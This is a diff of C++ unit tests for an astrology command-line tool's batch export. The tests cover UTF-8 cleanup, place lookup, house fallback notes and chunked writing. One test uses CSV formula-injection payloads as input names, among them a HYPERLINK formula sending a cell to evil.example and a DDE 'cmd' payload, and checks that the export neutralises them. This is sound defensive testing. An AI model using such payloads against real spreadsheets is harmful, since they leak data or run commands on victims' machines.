@@ -5,6 +5,7 @@
 #include <algorithm>
 #include <cstdlib>
 #include <filesystem>
+#include <new>
 #include <optional>
 #include <sstream>
 #include <string>
@@ -12,6 +13,8 @@
 
 #include "CliSamples.h"
 #include "collection/Csv.h"
+#include "domain/PositionsChoice.h"
+#include "domain/Text.h"
 #include "support/Json.h"
 #include "support/TempFolder.h"
 
@@ -68,6 +71,47 @@ std::vector<std::string> ShownSigns(const Json& chart) {
     return {chart.Find("bodies")->items[0].Find("sign")->text,
             chart.Find("bodies")->items[1].Find("sign")->text, chart.Find("risingSign")->text};
 }
+// True when text is well-formed UTF-8 (shortest forms, no surrogates) without NUL: what a JSON
+// or CSV reader takes without complaint.
+bool IsUtf8WithoutNul(const std::string& text) {
+    for (std::size_t i = 0; i < text.size();) {
+        const auto b = static_cast<unsigned char>(text[i]);
+        if (b == 0) return false;
+        const std::size_t n = b < 0x80                 ? 1
+                              : b >= 0xC2 && b <= 0xDF ? 2
+                              : b >= 0xE0 && b <= 0xEF ? 3
+                              : b >= 0xF0 && b <= 0xF4 ? 4
+                                                       : 0;
+        if (n == 0 || i + n > text.size()) return false;
+        char32_t code = n == 1 ? b : b & (0x7F >> n);
+        for (std::size_t k = 1; k < n; ++k) {
+            const auto c = static_cast<unsigned char>(text[i + k]);
+            if ((c & 0xC0) != 0x80) return false;
+            code = (code << 6) | (c & 0x3F);
+        }
+        const char32_t least[] = {0, 0, 0x80, 0x800, 0x10000};
+        if (code < least[n] || (code >= 0xD800 && code <= 0xDFFF) || code > 0x10FFFF) return false;
+        i += n;
+    }
+    return true;
+}
+
+// The lines of a JSON Lines file, each parsed.
+std::vector<Json> JsonLines(const std::string& text) {
+    std::istringstream lines(text);
+    std::vector<Json> rows;
+    for (std::string line; std::getline(lines, line);) rows.push_back(Parsed(line));
+    return rows;
+}
+
+// A CSV output's cell of the named column in row r (from 1, after the header).
+std::string Cell(const CsvTable& table, std::size_t r, const std::string& column) {
+    const std::vector<std::string>& header = table.rows.at(0).fields;
+    const auto at = std::find(header.begin(), header.end(), column);
+    if (at == header.end()) return "(no column " + column + ")";
+    return table.rows.at(r).fields.at(static_cast<std::size_t>(at - header.begin()));
+}
+
 std::vector<std::string> ListedSigns(const Json& signs) {
     return {signs.Find("sun")->text, signs.Find("moon")->text, signs.Find("rising")->text};
 }
@@ -294,7 +338,9 @@ TEST_F(CliCollectionTest, BatchRowsCarryTheBodiesShowGives) {
                                                                                             : "no");
         EXPECT_EQ(field("contacts"), std::to_string(shown.Find("contacts")->items.size()));
         EXPECT_EQ(field("error"), "");
-        EXPECT_EQ(header.size(), positions.empty() ? 2u + 2 * 10 * 4 + 1 : 2u + 2 * 15 * 4 + 1);
+        // The bodies' columns, contacts and error, then the place, coordinates, zone and houses.
+        EXPECT_EQ(header.size(),
+                  (positions.empty() ? 2u + 2 * 10 * 4 + 1 : 2u + 2 * 15 * 4 + 1) + 7);
     }
 }
 
@@ -319,15 +365,19 @@ TEST_F(CliCollectionTest, RefusedRowsKeepTheirPlaceWithTheFormsMessage) {
     const std::vector<std::pair<std::string, std::string>> expected = {
         {"First", ""},
         {"Too far north", "Please Enter Degree of Latitude From 0 To 90"},
-        {"No such month", "--date '1980-13-15': the month must lie in 1..12"},
+        {"No such month", "the date column '1980-13-15': the month must lie in 1..12"},
         {"", "Please Enter Your Name"},
         {"Short row", "the row has 2 fields where the header has 10"},
-        {"Odd dst", "dst 'maybe': expected yes or no"},
+        {"Odd dst", "the dst column 'maybe': expected yes or no"},
         {"Last", ""}};
+    const std::vector<std::string>& header = table.rows[0].fields;
+    const auto errorColumn =
+        static_cast<std::size_t>(std::find(header.begin(), header.end(), "error") - header.begin());
     for (std::size_t i = 0; i < expected.size(); ++i) {
         const std::vector<std::string>& row = table.rows[i + 1].fields;
+        ASSERT_EQ(row.size(), header.size()) << i;
         EXPECT_EQ(row.front(), expected[i].first) << i;
-        EXPECT_EQ(row.back(), expected[i].second) << i;
+        EXPECT_EQ(row[errorColumn], expected[i].second) << i;
         // A refused row has no values; a calculated one has its Sun's sign.
         EXPECT_EQ(row[2].empty(), !expected[i].second.empty()) << i;
     }
@@ -353,7 +403,7 @@ TEST_F(CliCollectionTest, BatchTakesThePlaceAsNewTakesIt) {
     EXPECT_TRUE(SameJson(*rows[0].Find("draconic"), *shown.Find("draconic")->Find("bodies")));
     EXPECT_EQ(rows[1].Find("name")->text, "Nobody");
     EXPECT_EQ(rows[1].Find("natal")->type, Json::Type::Null);
-    EXPECT_EQ(rows[1].Find("error")->text, "--place 'qqqq': no place matches");
+    EXPECT_EQ(rows[1].Find("error")->text, "the place column 'qqqq': no place matches");
 }
 
 TEST_F(CliCollectionTest, BatchRefusesAFileItCannotReadWithOneLine) {
@@ -380,6 +430,237 @@ TEST_F(CliCollectionTest, BatchRefusesAFileItCannotReadWithOneLine) {
     ExpectOneLineError("must end in .csv or .jsonl");
     EXPECT_EQ(Run({"batch", Path("missing.csv"), "-o", Path("out.csv")}), kExitFailure);
     ExpectOneLineError("no such file");
+}
+
+TEST_F(CliCollectionTest, BatchOutputIsUtf8TextNoSpreadsheetRunsAsAFormula) {
+    const std::string births = Path("births.csv");
+    const std::string birth = ",1980-01-15,10:30,20,40:43N,74:00W,no,New York,NY,USA\n";
+    // Names a spreadsheet would run, and names with bytes that are not text; a row whose zone is
+    // left empty is refused in the words of the columns.
+    const std::vector<std::string> names = {
+        "=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")",
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+        "Bad \xFF byte",
+        "Surrogate \xED\xA0\x80",
+        std::string("Nul\0byte", 8)};
+    std::string text = "name,date,time,zone,lat,lon,dst,city,state,country\n";
+    for (const std::string& name : names) {
+        const bool quoted = name.find('"') != std::string::npos;
+        text += (quoted ? "\"" + name + "\"" : name) + birth;
+    }
+    text += "=1+1,1980-01-15,10:30,,40:43N,74:00W,no,New York,NY,USA\n";
+    test::WriteFileBytes(births, text);
+
+    ASSERT_EQ(Run({"batch", births, "-o", Path("out.csv")}), kExitOk) << Err();
+    EXPECT_NE(Err().find("rows hold bytes that are not UTF-8 text (or NUL); the output has U+FFFD"),
+              std::string::npos)
+        << Err();
+    const std::string csv = test::ReadFileBytes(Path("out.csv"));
+    EXPECT_TRUE(IsUtf8WithoutNul(csv));
+    const CsvTable table = ReadCsv(csv);
+    ASSERT_EQ(table.error, "");
+    ASSERT_EQ(table.rows.size(), names.size() + 2);
+    const std::vector<std::string> expected = {
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+        "'-2+3",
+        "Bad \uFFFD byte",
+        "Surrogate \uFFFD\uFFFD\uFFFD",
+        "Nul\uFFFDbyte",
+        "'=1+1"};
+    for (std::size_t r = 1; r < table.rows.size(); ++r) {
+        EXPECT_EQ(Cell(table, r, "name"), expected[r - 1]) << r;
+        const std::string error = Cell(table, r, "error");
+        EXPECT_TRUE(error.empty() || std::string("=+-@\t\r").find(error[0]) == std::string::npos)
+            << error;
+    }
+    EXPECT_EQ(Cell(table, table.rows.size() - 1, "error"), "the zone column is empty");
+
+    // The same births as JSON Lines: every line a JSON object in UTF-8, refused rows too.
+    ASSERT_EQ(Run({"batch", births, "-o", Path("out.jsonl")}), kExitOk) << Err();
+    const std::string jsonl = test::ReadFileBytes(Path("out.jsonl"));
+    EXPECT_TRUE(IsUtf8WithoutNul(jsonl));
+    const std::vector<Json> rows = JsonLines(jsonl);
+    ASSERT_EQ(rows.size(), names.size() + 1);
+    EXPECT_EQ(rows[4].Find("name")->text, "Bad \uFFFD byte");
+    EXPECT_EQ(rows[5].Find("name")->text, "Surrogate \uFFFD\uFFFD\uFFFD");
+    EXPECT_EQ(rows.back().Find("error")->text, "the zone column is empty");
+}
+
+TEST_F(CliCollectionTest, ListJsonOfAFileNameThatIsNotUtf8IsStillJson) {
+    const std::string folder = Path("library");
+    std::filesystem::create_directory(folder);
+    const std::string odd = folder + "/odd \xFF\xED\xA0\x80.vlr";
+    test::WriteFileBytes(odd, test::ReadFileBytes(ann));
+    ASSERT_EQ(Run({"list", folder, "--json"}), kExitOk) << Err();
+    EXPECT_TRUE(IsUtf8WithoutNul(Out()));
+    const Json listed = Parsed(Out());
+    ASSERT_EQ(listed.items.size(), 1u);
+    EXPECT_EQ(listed.items[0].Find("file")->text, folder + "/odd \uFFFD\uFFFD\uFFFD\uFFFD.vlr");
+}
+
+TEST_F(CliCollectionTest, BatchSaysWhereTheHousesFellBackToPorphyry) {
+    const std::string births = Path("births.csv");
+    test::WriteFileBytes(births,
+                         "name,date,time,zone,lat,lon,city,state,country\n"
+                         "Tromso,1980-06-21,12:00,20,69:39N,18:57E,Tromso,Troms,Norway\n"
+                         "New York,1980-01-15,10:30,20,40:43N,74:00W,New York,NY,USA\n");
+    const std::string note = HousesFallbackNote(HouseSystem::Placidus, HouseSystem::Porphyry);
+    const std::vector<std::string> precise = {"--positions", "precise", "--houses", "placidus"};
+    std::vector<std::string> args{"batch", births, "-o", Path("out.csv")};
+    args.insert(args.end(), precise.begin(), precise.end());
+    ASSERT_EQ(Run(args), kExitOk) << Err();
+    EXPECT_NE(Err().find("velloran-cli: note: batch: 1 of 2 births: " + note +
+                         " (see their houses_note column)\n"),
+              std::string::npos)
+        << Err();
+    const CsvTable table = ReadCsv(test::ReadFileBytes(Path("out.csv")));
+    ASSERT_EQ(table.rows.size(), 3u);
+    EXPECT_EQ(Cell(table, 1, "houses_note"), note);
+    EXPECT_EQ(Cell(table, 2, "houses_note"), "");
+
+    args[3] = Path("out.jsonl");
+    ASSERT_EQ(Run(args), kExitOk) << Err();
+    const std::vector<Json> rows = JsonLines(test::ReadFileBytes(Path("out.jsonl")));
+    ASSERT_EQ(rows.size(), 2u);
+    EXPECT_EQ(rows[0].Find("housesNote")->text, note);
+    EXPECT_EQ(rows[1].Find("housesNote")->type, Json::Type::Null);
+}
+
+TEST_F(CliCollectionTest, BatchNamesThePlaceItUsedAndRefusesAVagueOne) {
+    const std::string births = Path("births.csv");
+    test::WriteFileBytes(births,
+                         "name,place,date,time\n"
+                         "Ann,\"Zurich, Switzerland\",1990-07-01,12:00\n"
+                         "Bob,Springfield,1990-07-01,12:00\n");
+    ASSERT_EQ(Run({"batch", births, "-o", Path("out.csv")}), kExitOk) << Err();
+    const CsvTable table = ReadCsv(test::ReadFileBytes(Path("out.csv")));
+    ASSERT_EQ(table.rows.size(), 3u);
+    EXPECT_EQ(Cell(table, 1, "place"), "Zurich, Canton of Zurich, Switzerland");
+    EXPECT_NEAR(std::stod(Cell(table, 1, "latitude")), 47 + 22 / 60.0, 1e-9);
+    EXPECT_NEAR(std::stod(Cell(table, 1, "longitude")), 8 + 33 / 60.0, 1e-9);
+    // Central European Time with daylight saving, as the atlas gives Zurich's summer.
+    EXPECT_EQ(Cell(table, 1, "zone"), "20");
+    EXPECT_EQ(Cell(table, 1, "daylight_saving"), "yes");
+    EXPECT_EQ(Cell(table, 1, "error"), "");
+    // Springfield, Missouri and Springfield, Massachusetts are much the same size.
+    EXPECT_EQ(Cell(table, 2, "natal_sun_sign"), "");
+    const std::string vague = Cell(table, 2, "error");
+    EXPECT_EQ(vague.rfind("the place column 'Springfield' matches places of similar size (", 0), 0u)
+        << vague;
+    EXPECT_NE(vague.find("Springfield, Missouri"), std::string::npos) << vague;
+    EXPECT_NE(vague.find("Springfield, Massachusetts"), std::string::npos) << vague;
+    EXPECT_EQ(Cell(table, 2, "place"), "");
+
+    ASSERT_EQ(Run({"batch", births, "-o", Path("out.jsonl")}), kExitOk) << Err();
+    const std::vector<Json> rows = JsonLines(test::ReadFileBytes(Path("out.jsonl")));
+    ASSERT_EQ(rows.size(), 2u);
+    const Json& place = *rows[0].Find("place");
+    EXPECT_EQ(place.Find("name")->text, "Zurich, Canton of Zurich, Switzerland");
+    EXPECT_EQ(place.Find("zoneIndex")->number, 20);
+    EXPECT_TRUE(place.Find("daylightSaving")->boolean);
+    EXPECT_EQ(rows[1].Find("place")->type, Json::Type::Null);
+    EXPECT_EQ(rows[1].Find("error")->text, vague);
+
+    // A row with its own place columns has them in the output, with its zone.
+    test::WriteFileBytes(births, BirthsFile("name,date,time,zone,lat,lon,dst,city,state,country"));
+    ASSERT_EQ(Run({"batch", births, "-o", Path("out.csv")}), kExitOk) << Err();
+    const CsvTable own = ReadCsv(test::ReadFileBytes(Path("out.csv")));
+    ASSERT_EQ(own.rows.size(), 3u);
+    EXPECT_EQ(Cell(own, 1, "place"), "New York, NY, USA");
+    EXPECT_NEAR(std::stod(Cell(own, 1, "latitude")), 40 + 43 / 60.0, 1e-9);
+    EXPECT_NEAR(std::stod(Cell(own, 1, "longitude")), -74.0, 1e-9);
+    EXPECT_EQ(Cell(own, 1, "zone"), std::to_string(test::KnownBirthForm().zoneIndex));
+    EXPECT_EQ(Cell(own, 1, "zone_label"), "Eastern Standard Time,EST,-5.0");
+    EXPECT_EQ(Cell(own, 1, "daylight_saving"), "no");
+}
+
+TEST_F(CliCollectionTest, BatchFailsWhenNoBirthIsCalculated) {
+    const std::string births = Path("births.csv");
+    test::WriteFileBytes(births,
+                         "name,date,time,zone\n"
+                         "A,1980-13-01,10:30,20\n"
+                         "B,1980-01-01,25:00,20\n");
+    EXPECT_EQ(Run({"batch", births, "-o", Path("out.csv")}), kExitFailure);
+    EXPECT_EQ(Err(),
+              "velloran-cli: batch: none of the 2 births could be calculated (see their error "
+              "column)\n");
+    // The rows still say why.
+    EXPECT_EQ(ReadCsv(test::ReadFileBytes(Path("out.csv"))).rows.size(), 3u);
+
+    test::WriteFileBytes(births, "name,date,time,zone\n");
+    EXPECT_EQ(Run({"batch", births, "-o", Path("out.csv")}), kExitFailure);
+    ExpectOneLineError("has no births (only the header); nothing was calculated");
+}
+
+// The real files, with each piece of output written counted; when asked, the births file's
+// third piece runs out of memory, while the rows of the first are being calculated and written.
+class CountingFiles : public DiskFiles {
+public:
+    bool WriteFrom(const std::string& path, const FileFiller& fill, std::string& reason) override {
+        const FileFiller counted = [&](const PieceSink& put, std::string& why) {
+            return fill(
+                [&](std::string_view piece) {
+                    pieces.push_back(piece.size());
+                    return put(piece);
+                },
+                why);
+        };
+        return DiskFiles::WriteFrom(path, counted, reason);
+    }
+    bool Write(const std::string& path, std::string_view bytes, std::string& reason) override {
+        pieces.push_back(bytes.size());
+        return DiskFiles::Write(path, bytes, reason);
+    }
+    std::optional<Pieces> ReadPieces(const std::string& path, std::size_t limit,
+                                     std::string& reason) override {
+        auto real = DiskFiles::ReadPieces(path, limit, reason);
+        if (!real || !outOfMemory || opened++ > 0) return real;
+        return [real = *real, calls = 0](char* into,
+                                         std::size_t size) mutable -> std::optional<std::size_t> {
+            if (++calls == 3) throw std::bad_alloc();
+            return real(into, size);
+        };
+    }
+    std::vector<std::size_t> pieces;
+    bool outOfMemory = false;
+    int opened = 0;
+};
+
+TEST_F(CliCollectionTest, BatchWritesItsRowsInPiecesAsTheyAreCalculated) {
+    const std::string births = Path("births.csv");
+    std::string text = "name,date,time,zone,lat,lon,city,state,country\n";
+    constexpr int kBirths = 3000;
+    for (int i = 0; i < kBirths; ++i)
+        text += "P" + std::to_string(i) + ",1980-01-" + TwoDigits(1 + i % 28) +
+                ",10:" + TwoDigits(i % 60) + ",20,40:43N,74:00W,New York,NY,USA\n";
+    test::WriteFileBytes(births, text);
+    CountingFiles files;
+    ASSERT_EQ(RunCli({"batch", births, "-o", Path("out.jsonl")}, m_out, m_err, files), kExitOk)
+        << Err();
+    const std::string written = test::ReadFileBytes(Path("out.jsonl"));
+    ASSERT_EQ(JsonLines(written).size(), static_cast<std::size_t>(kBirths));
+    // Some megabytes of rows, none of the pieces more than a little over one megabyte.
+    ASSERT_GT(written.size(), std::size_t{4} << 20);
+    EXPECT_GT(files.pieces.size(), 3u);
+    EXPECT_LE(*std::max_element(files.pieces.begin(), files.pieces.end()),
+              (std::size_t{1} << 20) + 64 * 1024);
+
+    // Memory that runs out is one line and a failure; the earlier output is kept as it was and
+    // nothing is left beside it.
+    files.outOfMemory = true;
+    files.pieces.clear();
+    m_err.str("");
+    EXPECT_EQ(RunCli({"batch", births, "-o", Path("out.jsonl")}, m_out, m_err, files),
+              kExitFailure);
+    EXPECT_EQ(Err(), "velloran-cli: out of memory\n");
+    EXPECT_FALSE(files.pieces.empty());  // it ran out while writing
+    EXPECT_EQ(test::ReadFileBytes(Path("out.jsonl")), written);
+    for (const auto& entry : std::filesystem::directory_iterator(Path("")))
+        EXPECT_EQ(entry.path().filename().string().rfind(".velloran-", 0), std::string::npos);
 }
 
 }  // namespace
